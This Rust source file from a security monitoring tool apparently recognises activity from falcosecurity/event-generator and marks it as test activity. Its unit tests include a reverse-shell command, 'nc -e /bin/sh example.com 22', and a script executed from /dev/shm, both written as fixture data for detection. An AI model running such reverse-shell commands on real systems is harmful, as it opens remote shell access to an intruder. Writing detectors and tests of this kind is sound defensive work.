//! Synthetic test activity: falcosecurity/event-generator runs real attack commands to test
//! rules. Recognised by its binary (/bin/event-generator), its comm as an ancestor, or its
//! files (falco-event-generator-syscall-*). Recognising it lowers the risk and changes the
//! advice to "allow-list it" (exec-ground-truth.md §2, §6).

use super::{basename_is, Ctx, Findings};
use crate::knowledge::signals;

const NAME: &str = "event-generator";
const FILE_MARK: &str = "falco-event-generator";

/// Always: it reads the exe, comm, argv and ancestors, all of which vary.
pub use super::always as wants;

pub fn detect(cx: &Ctx, out: &mut Findings) {
    let why = if basename_is(cx.exe_path, NAME) || cx.facts.comm.as_deref() == Some(NAME) {
        Some("the exec is event-generator itself")
    } else if cx
        .lineage
        .ancestors
        .iter()
        .any(|a| a.comm == NAME || a.exe.as_deref().is_some_and(|e| basename_is(e, NAME)))
    {
        Some("an ancestor is event-generator")
    } else if cx.exe_path.contains(FILE_MARK) || cx.facts.argv.iter().any(|a| a.contains(FILE_MARK))
    {
        Some("it runs a falco-event-generator-syscall-* file")
    } else {
        None
    };
    if let Some(why) = why {
        out.test_activity = true;
        out.hit(
            signals::TEST_ACTIVITY,
            format!("falcosecurity/event-generator test action: {why}"),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;
    use crate::analysis::Lineage;

    #[test]
    fn fires_on_event_generator_parent() {
        let (ids, _) = run_with(
            detect,
            &facts(&["nc", "-e", "/bin/sh", "example.com", "22"]),
            &Lineage::from_comms(["event-generator"]),
        );
        assert_eq!(ids, ["test_activity"]);
        assert_eq!(
            run(
                detect,
                &[
                    "sh",
                    "-c",
                    "/dev/shm/falco-event-generator-syscall-ExecutionFromDevShm.sh"
                ]
            ),
            ["test_activity"]
        );
    }

    #[test]
    fn quiet_on_other_parents() {
        let (ids, _) = run_with(
            detect,
            &facts(&["nc", "-e", "/bin/sh", "example.com", "22"]),
            &Lineage::from_comms(["bash", "sshd"]),
        );
        assert!(ids.is_empty());
    }
}
